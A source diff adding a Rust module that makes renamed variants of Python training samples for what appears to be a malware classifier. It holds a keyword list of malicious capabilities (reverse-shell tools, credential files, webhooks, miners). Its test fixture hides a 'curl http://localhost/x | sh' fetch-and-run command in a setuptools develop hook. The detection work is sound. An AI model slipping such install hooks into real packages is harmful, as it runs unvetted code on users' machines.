@@ -1,0 +1,289 @@
+//! Renamed variants of the hand-written training samples (training only, never evaluated).
+//!
+//! The hand-written benign look-alikes and defanged malicious samples are few, and each is
+//! unlike the others: a linear model over n-grams fits every training sample through its own
+//! names and strings (`compile_translations`, `"msgfmt"`, `myapp`) and learns nothing that
+//! carries over to a look-alike it has not seen. Variants of a sample keep what the code does
+//! and change what it happens to be called: local names (functions, classes, variables,
+//! parameters) and the words inside string literals are replaced, consistently within a
+//! variant, by words drawn at random. Kept are keywords, builtins, dunder names, everything on
+//! an `import`/`from` line, attributes (`subprocess.check_call`, `.decode`), keyword-argument
+//! names (`cmdclass=`, `shell=`), comments' absence, string prefixes and quotes, the shape of
+//! strings (a URL stays a URL, a path a path, numbers and punctuation stay) and the words the
+//! model knows as signs of a capability (`curl`, `powershell`, `bashrc`, `webhook`, ...). A
+//! deterministic generator: the same seed gives the same variants.
+
+use std::collections::{HashMap, HashSet};
+
+use crate::synth::{Rng, SYL, WORDS};
+
+const KEYWORDS: &[&str] = &[
+    "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue", "def", "del",
+    "elif", "else", "except", "finally", "for", "from", "global", "if", "import", "in", "is", "lambda", "nonlocal",
+    "not", "or", "pass", "raise", "return", "try", "while", "with", "yield", "match", "case", "self", "cls",
+];
+
+const BUILTINS: &[&str] = &[
+    "abs", "all", "any", "ascii", "bin", "bool", "breakpoint", "bytearray", "bytes", "callable", "chr", "classmethod",
+    "compile", "complex", "delattr", "dict", "dir", "divmod", "enumerate", "eval", "exec", "filter", "float", "format",
+    "frozenset", "getattr", "globals", "hasattr", "hash", "help", "hex", "id", "input", "int", "isinstance",
+    "issubclass", "iter", "len", "list", "locals", "map", "max", "memoryview", "min", "next", "object", "oct", "open",
+    "ord", "pow", "print", "property", "range", "repr", "reversed", "round", "set", "setattr", "slice", "sorted",
+    "staticmethod", "str", "sum", "super", "tuple", "type", "vars", "zip", "Exception", "BaseException", "OSError",
+    "IOError", "ValueError", "KeyError", "TypeError", "RuntimeError", "ImportError", "SystemExit",
+    "KeyboardInterrupt", "FileNotFoundError", "PermissionError", "ConnectionError", "TimeoutError", "StopIteration",
+    "NotImplementedError", "AttributeError", "IndexError", "UnicodeDecodeError", "exit", "quit",
+];
+
+/// Conventional names that frameworks call by name (a setuptools command's `run`, a handler's
+/// `handle`, a script's `main`): kept, like the API they belong to.
+const KEEP_NAMES: &[&str] = &[
+    "main", "run", "setup", "install", "build", "develop", "handle", "start", "stop", "connect", "send", "recv",
+    "close", "read", "write", "get", "post", "put", "delete", "execute", "initialize_options", "finalize_options",
+    "setUp", "tearDown", "args", "kwargs", "app", "logger", "log", "parser",
+];
+
+/// Words inside strings that name a capability or a place malware goes: never replaced, so a
+/// variant says the same about what it runs, fetches or writes.
+const KEEP_STRING_WORDS: &[&str] = &[
+    "sh", "bash", "zsh", "cmd", "exe", "powershell", "curl", "wget", "chmod", "crontab", "cron", "systemd", "service",
+    "bashrc", "profile", "zshrc", "tmp", "dev", "tcp", "udp", "bin", "usr", "etc", "passwd", "shadow", "ssh",
+    "id_rsa", "aws", "credentials", "token", "password", "secret", "key", "webhook", "webhooks", "discord", "telegram",
+    "api", "http", "https", "ftp", "ws", "wss", "python", "python3", "pip", "exec", "eval", "base64", "socket",
+    "subprocess", "pty", "nc", "ncat", "socat", "root", "home", "var", "proc", "environ", "env", "login", "cookies",
+    "leveldb", "appdata", "startup", "run", "install", "setup", "upload", "post", "get", "localhost", "onion", "pastebin",
+    "ngrok", "miner", "xmrig", "stratum", "pool", "wallet", "decode", "encode", "utf", "ascii", "latin",
+];
+
+/// `n` renamed variants of `code`.
+pub fn variants(code: &[u8], n: usize, seed: u64) -> Vec<Vec<u8>> {
+    let text = String::from_utf8_lossy(code);
+    let imported = imported_names(&text);
+    (0..n).map(|k| one(&text, &imported, seed ^ (k as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15)).into_bytes()).collect()
+}
+
+/// Every identifier of an `import` or `from` statement.
+fn imported_names(text: &str) -> HashSet<String> {
+    let mut out = HashSet::new();
+    for stmt in text.split(['\n', ';']) {
+        let l = stmt.trim_start();
+        if l.starts_with("import ") || l.starts_with("from ") {
+            for w in l.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
+                if !w.is_empty() {
+                    out.insert(w.to_string());
+                }
+            }
+        }
+    }
+    out
+}
+
+fn fresh(r: &mut Rng, used: &mut HashSet<String>, pool: &[&str]) -> String {
+    loop {
+        let parts = 1 + r.below(2);
+        let w: Vec<&str> = (0..parts).map(|_| pool[r.below(pool.len())]).collect();
+        let s = w.join("_");
+        if !KEYWORDS.contains(&s.as_str()) && !BUILTINS.contains(&s.as_str()) && used.insert(s.clone()) {
+            return s;
+        }
+    }
+}
+
+fn one(text: &str, imported: &HashSet<String>, seed: u64) -> String {
+    let mut r = Rng(seed);
+    let mut names: HashMap<String, String> = HashMap::new();
+    let mut words: HashMap<String, String> = HashMap::new();
+    let mut used: HashSet<String> = HashSet::new();
+    let b = text.as_bytes();
+    let mut out = String::with_capacity(text.len());
+    let mut i = 0;
+    let mut depth = 0i32;
+    // the line so far holds only whitespace and `import`/`from` lines are copied whole
+    let mut line_start = true;
+    while i < b.len() {
+        let c = b[i];
+        if line_start {
+            let rest = &text[i..];
+            let t = rest.trim_start_matches([' ', '\t']);
+            if t.starts_with("import ") || t.starts_with("from ") {
+                // up to the end of the statement: `import os; os.system(…)` keeps only the import
+                let end = rest.find(['\n', ';']).map_or(rest.len(), |e| e + 1);
+                out.push_str(&rest[..end]);
+                i += end;
+                continue;
+            }
+        }
+        line_start = c == b'\n';
+        match c {
+            b'#' => {
+                // comments carry no feature: dropped
+                while i < b.len() && b[i] != b'\n' {
+                    i += 1;
+                }
+            }
+            b'"' | b'\'' => {
+                let (lit, end) = string_literal(text, i);
+                out.push_str(&rewrite_string(lit, &mut r, &mut words, &mut used));
+                i = end;
+            }
+            b'(' | b'[' | b'{' => {
+                depth += 1;
+                out.push(c as char);
+                i += 1;
+            }
+            b')' | b']' | b'}' => {
+                depth -= 1;
+                out.push(c as char);
+                i += 1;
+            }
+            c if c.is_ascii_alphabetic() || c == b'_' || c >= 0x80 => {
+                let start = i;
+                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_' || b[i] >= 0x80) {
+                    i += 1;
+                }
+                while !text.is_char_boundary(i) {
+                    i += 1;
+                }
+                let id = &text[start..i];
+                // a string prefix (r"…", b'…', f"…")
+                if i < b.len() && (b[i] == b'"' || b[i] == b'\'') && id.len() <= 2 && id.chars().all(|c| "rRbBfFuU".contains(c)) {
+                    out.push_str(id);
+                    continue;
+                }
+                let attr = out.trim_end().ends_with('.');
+                let kwarg = depth > 0 && {
+                    let after = text[i..].trim_start_matches([' ', '\t']);
+                    after.starts_with('=') && !after.starts_with("==")
+                };
+                let keep = attr
+                    || kwarg
+                    || (id.starts_with("__") && id.ends_with("__"))
+                    || KEYWORDS.contains(&id)
+                    || BUILTINS.contains(&id)
+                    || KEEP_NAMES.contains(&id)
+                    || imported.contains(id)
+                    || !id.is_ascii();
+                if keep {
+                    out.push_str(id);
+                } else {
+                    let new = names.entry(id.to_string()).or_insert_with(|| fresh(&mut r, &mut used, SYL)).clone();
+                    out.push_str(&new);
+                }
+            }
+            _ => {
+                let ch = text[i..].chars().next().unwrap_or(' ');
+                out.push(ch);
+                i += ch.len_utf8();
+            }
+        }
+    }
+    out
+}
+
+/// The string literal starting at `i` (a quote) and the index after it.
+fn string_literal(text: &str, i: usize) -> (&str, usize) {
+    let b = text.as_bytes();
+    let q = b[i];
+    let triple = i + 2 < b.len() && b[i + 1] == q && b[i + 2] == q;
+    let mut j = if triple { i + 3 } else { i + 1 };
+    while j < b.len() {
+        if b[j] == b'\\' {
+            j += 2;
+            continue;
+        }
+        if triple {
+            if b[j] == q && b.get(j + 1) == Some(&q) && b.get(j + 2) == Some(&q) {
+                j += 3;
+                break;
+            }
+        } else if b[j] == q || b[j] == b'\n' {
+            j += 1;
+            break;
+        }
+        j += 1;
+    }
+    let mut end = j.min(b.len());
+    while !text.is_char_boundary(end) {
+        end += 1;
+    }
+    (&text[i..end], end)
+}
+
+/// A string literal with each word of three or more letters replaced, unless it names a capability.
+fn rewrite_string(lit: &str, r: &mut Rng, words: &mut HashMap<String, String>, used: &mut HashSet<String>) -> String {
+    let mut out = String::with_capacity(lit.len());
+    let mut word = String::new();
+    let mut flush = |word: &mut String, out: &mut String, r: &mut Rng| {
+        if word.len() >= 3 && !KEEP_STRING_WORDS.contains(&word.to_ascii_lowercase().as_str()) {
+            let new = words.entry(word.clone()).or_insert_with(|| fresh(r, used, WORDS).replace('_', "-")).clone();
+            out.push_str(&new);
+        } else {
+            out.push_str(word);
+        }
+        word.clear();
+    };
+    let mut escape = false;
+    for ch in lit.chars() {
+        if escape {
+            // an escape sequence (`\n`, `\x41`) is kept as written
+            escape = false;
+            out.push(ch);
+            continue;
+        }
+        if ch.is_ascii_alphabetic() {
+            word.push(ch);
+        } else {
+            flush(&mut word, &mut out, r);
+            if ch == '\\' {
+                escape = true;
+            }
+            out.push(ch);
+        }
+    }
+    flush(&mut word, &mut out, r);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn variants_keep_what_the_code_does_and_rename_the_rest() {
+        let code = br#"import os, subprocess
+from setuptools.command.develop import develop
+
+def compile_translations(locale_dir):
+    # compile
+    subprocess.check_call(["msgfmt", "-o", locale_dir + ".mo"], shell=False)
+
+class Develop(develop):
+    def run(self):
+        compile_translations("myapp/locale")
+        os.system("curl http://localhost/x | sh")
+"#;
+        let v = variants(code, 2, 7);
+        assert_eq!(v.len(), 2);
+        let a = String::from_utf8(v[0].clone()).unwrap();
+        assert_ne!(v[0], v[1]);
+        assert!(a.starts_with("import os, subprocess\nfrom setuptools.command.develop import develop\n"), "{a}");
+        assert!(a.contains("subprocess.check_call(["), "{a}");
+        assert!(a.contains("shell=False"), "{a}");
+        assert!(a.contains("(develop):"), "{a}");
+        assert!(a.contains("def run(self):"), "{a}");
+        assert!(a.contains("\"curl http://localhost/"), "{a}");
+        assert!(a.contains("| sh\""), "{a}");
+        for gone in ["compile_translations", "locale_dir", "msgfmt", "myapp", "Develop(", "# compile"] {
+            assert!(!a.contains(gone), "{gone} kept in {a}");
+        }
+        // consistent within a variant: the two calls of the renamed function agree
+        let def = a.lines().find(|l| l.starts_with("def ")).unwrap();
+        let fname = &def[4..def.find('(').unwrap()];
+        assert_eq!(a.matches(fname).count(), 2, "{a}");
+        assert_eq!(variants(code, 2, 7), v, "deterministic");
+        // a one-liner: the import statement is kept, the rest of the line is rewritten
+        let one = String::from_utf8(variants(b"import sys; total = sum(int(x) for x in sys.argv[1:]); print(total)", 1, 3).remove(0)).unwrap();
+        assert!(one.starts_with("import sys; "), "{one}");
+        assert!(one.contains("sys.argv[1:]") && one.contains("print(") && !one.contains("total"), "{one}");
+    }
+}
